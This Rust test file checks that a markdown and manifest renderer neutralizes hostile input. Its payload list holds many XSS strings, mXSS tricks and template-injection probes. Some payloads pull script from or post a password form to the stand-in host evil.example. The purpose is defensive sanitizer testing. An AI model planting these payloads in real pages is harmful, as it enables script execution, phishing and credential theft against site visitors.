//! READMEs and manifests that attack whoever looks at them.

use std::sync::Arc;

use registry_index::Record;
use site_gen::{
    Mode,
    markdown::{self, Surroundings},
};

use crate::{oracle, shop::Shop};

/// What is tried.
const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt/src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php <script>alert(1)</script> ?>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror=\"alert(1)\" alt='a>b'>",
    "<IMG SRC=javascript:alert(1)>",
    "<img src=\"https://evil.example/pixel.png\">",
    "<img srcset=\"https://evil.example/x 1x\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=1 y=1>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"java&#x09;script:alert(1)\">x</a>",
    "<a href=\"&#1;javascript:alert(1)\">x</a>",
    "<a href=\"java&#x200b;script:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"//evil.example\">x</a>",
    "<a href=\"\\\\evil.example\">x</a>",
    "<a href=x ping=https://evil.example/>x</a>",
    "<a href=\"https://evil.example\" target=_top onclick=alert(1)>x</a>",
    "<p style=\"position:fixed;inset:0;background:url(https://evil.example/x)\">x</p>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><input name=password type=password><button>Sign in</button></form>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<table><td background=javascript:alert(1)>x",
    "<b id=main class=top>x</b><h2 id=main>y</h2>",
    "<img name=getElementById><a id=cookie>x</a>",
    "</div></section></main><h1>Verified</h1>",
    "<x-element onclick=alert(1)>x</x-element>",
    "a\u{202e}b&#x202e;c\u{2066}d&#8203;e&#x9b;31m",
    "\u{1b}]0;title\u{7}\u{1b}[31m",
    "<b\u{0}onclick=alert(1)>x</b>",
    "<img/src=`x`onerror=alert(1)>",
    "\"><script>alert(1)</script>",
    "'-alert(1)-'",
    "]]><script>alert(1)</script>",
    "{{ 7 * 7 }}{% include \"base.html\" %}",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
];

/// Where in a text it is tried; `@` is replaced.
const CLASSES: &[(&str, &str)] = &[
    ("a block", "@"),
    ("a paragraph", "text @ text"),
    ("a heading", "# @\n\n## @"),
    ("a list", "- @\n- [ ] @\n  1. @"),
    ("a quote", "> @\n>\n> > @"),
    ("a table", "| a | b |\n|---|---|\n| @ | x |"),
    ("code", "`@` ``@``\n\n    @"),
    ("an open fence", "```@\n@"),
    ("a link's address", "[x](@) [x](<@>)"),
    (
        "a link's title",
        "[x](https://a.example \"@\") [x](https://a.example '@')",
    ),
    ("a link's text", "[@](https://a.example)"),
    ("a picture's address", "![x](@) ![x](<@>) [![x](@)](@)"),
    (
        "a picture's text",
        "![@](https://a.example/x.png) ![@](gallery/x.png)",
    ),
    ("a reference", "[x] ![x]\n\n[x]: @ '@'"),
    ("a bare address", "<@>"),
    ("a footnote", "x[^@] y[^1]\n\n[^1]: @\n[^@]: z"),
    ("emphasis", "**@** *@* ~~@~~"),
    (
        "details",
        "<details><summary>@</summary>\n\n@\n\n</details>",
    ),
    (
        "an attribute",
        "<a title=\"@\" href='@'>x</a><img alt='@' src=\"@\">",
    ),
    ("a comment", "<!-- @ --> <!-- --!> @ -->"),
];

pub(crate) fn surroundings() -> Surroundings {
    Surroundings {
        prefix: "readme-".into(),
        title: "x".into(),
        link: Arc::new(|path| (path == "docs.md").then(|| "#f1".to_owned())),
        picture: Arc::new(|path| (path == "gallery/x.png").then(|| "0123.png".to_owned())),
        rel: "nofollow noopener",
    }
}

#[test]
fn a_hostile_readme_is_inert() {
    let surroundings = surroundings();
    let mut tried = 0;
    let mut live = Vec::new();
    for (class, frame) in CLASSES {
        for payload in PAYLOADS {
            let readme = frame.replace('@', payload);
            let html = markdown::render(&readme, &surroundings).html;
            let wrong = oracle::of_fragment(&html);
            if !wrong.is_empty() {
                live.push(format!("{class}: {readme:?}\n  {html}\n  {wrong:?}"));
            }
            tried += 1;
        }
    }
    assert!(tried >= 1_000, "{tried}");
    assert!(
        live.is_empty(),
        "{} of {tried} live:\n{}",
        live.len(),
        live.join("\n")
    );
}

#[test]
fn without_the_walls_they_are_not() {
    // The test above is worth something only if its READMEs do something elsewhere.
    let live = CLASSES
        .iter()
        .flat_map(|(_, frame)| {
            PAYLOADS
                .iter()
                .map(move |payload| frame.replace('@', payload))
        })
        .filter(|readme| {
            let mut html = String::new();
            pulldown_cmark::html::push_html(
                &mut html,
                pulldown_cmark::Parser::new_ext(readme, markdown::options()),
            );
            !oracle::of_fragment(&html).is_empty()
        })
        .count();
    assert!(live > 500, "only {live} do");
}

#[test]
fn pictures_from_elsewhere_become_links() {
    let html = |text: &str| markdown::render(text, &surroundings()).html;
    assert_eq!(
        html("![A diagram](https://x.example/a.png)").trim(),
        "<p><a href=\"https://x.example/a.png\" rel=\"nofollow noopener\">A diagram</a></p>"
    );
    assert_eq!(
        html("[![build](https://x.example/b.svg)](https://x.example/)").trim(),
        "<p><a href=\"https://x.example/\" rel=\"nofollow noopener\">build</a></p>"
    );
    assert_eq!(
        html("![](https://x.example/a.png)")
            .matches("picture")
            .count(),
        1
    );
    assert_eq!(html("![lost](gallery/lost.png)").trim(), "<p>lost</p>");
    assert!(html("![mine](./gallery/x.png)").contains("<img src=\"0123.png\" alt=\"mine\""));
    assert!(html("<img src='gallery/x.png' alt=y width=80>").contains("src=\"0123.png\""));
    assert!(!html("<img src='https://x.example/a.png' alt=y>").contains("src="));
}

#[test]
fn ids_and_links_stay_inside_the_text() {
    let html = markdown::render(
        "# x\n\n## Main\n\n## Main\n\n[a](#main) [b](docs.md) [c](other.md)\n\nn[^1]\n\n[^1]: note",
        &surroundings(),
    )
    .html;
    assert!(!html.contains("<h2"), "the title is said once: {html}");
    assert!(
        html.contains("<h3 id=\"readme-main\">") && html.contains("<h3 id=\"readme-main-1\">"),
        "{html}"
    );
    assert!(
        html.contains("href=\"#readme-main\"") && html.contains("href=\"#f1\""),
        "{html}"
    );
    assert!(
        html.contains("href=\"#readme-fn-1\"") && html.contains("id=\"readme-fn-1\""),
        "{html}"
    );
    assert!(
        html.contains("<a rel=\"nofollow noopener\">c</a>"),
        "{html}"
    );
}

/// A release that says `payload` wherever it can say something.
fn hostile_shop(payload: &str) -> Shop {
    let text = || payload.to_owned();
    Shop::new()
        .config(|config| {
            config.title = text();
            config.description = text();
            config.categories.insert("quality".into(), text());
            config.repository = Some("javascript:alert(1)".into());
        })
        .doc("index", payload, payload)
        .release_with(
            "core/bad",
            "1.0.0",
            "2026-01-02T03:04:05Z",
            |p| p.file("README.md", payload).file("CHANGELOG.md", payload),
            |record| hostile_record(record, payload),
        )
}

fn hostile_record(record: &mut Record, payload: &str) {
    let text = || payload.to_owned();
    let manifest = &mut record.manifest;
    manifest.summary = text();
    manifest.license = text();
    manifest.authors = vec![text(), "octocat".into()];
    manifest.keywords = vec![text(), "../../x".into(), "fine".into()];
    manifest.categories = vec![text(), "quality".into()];
    manifest.homepage = Some("javascript:alert(1)".into());
    manifest.repository = Some("https://x.example/\"><script>".into());
    manifest.forked_from = Some(text());
    manifest.uses.network = vec![text()];
    manifest.uses.commands = vec![text()];
    manifest.programs.insert(text(), text());
    record.source.git = "javascript:alert(1)".into();
    record.source.path = text();
    record.source.rev = text();
    record.published = text();
    for component in &mut record.components {
        component.id = text();
        component.description = Some(text());
    }
    for file in &mut record.files {
        file.path = format!("project/{payload}");
    }
}

#[test]
fn hostile_manifests_are_inert_on_every_page() {
    let payload = "\"><script>alert(1)</script>\u{202e}<img src=x onerror=alert(1)>'{{3331*3}}";
    let site = hostile_shop(payload).build(Some("https://hub.example/x"), Mode::Serve);
    assert!(site.summary.pages > 10);
    for (path, page) in site.pages() {
        assert_eq!(oracle::of_page(page), Vec::<String>::new(), "{path}");
        assert!(!page.contains("9993"), "{path} was evaluated");
    }
    for (path, bytes) in &site.files {
        assert!(!path.contains(['<', '"', '\u{202e}', ' ']), "{path:?}");
        if path.ends_with(".json") {
            let text = String::from_utf8_lossy(bytes);
            assert!(!text.contains(['<', '\u{202e}']), "{path}");
        }
    }
    let keywords = site.files.keys().filter(|path| path.starts_with("t/"));
    assert_eq!(keywords.collect::<Vec<_>>(), ["t/fine/index.html"]);
}
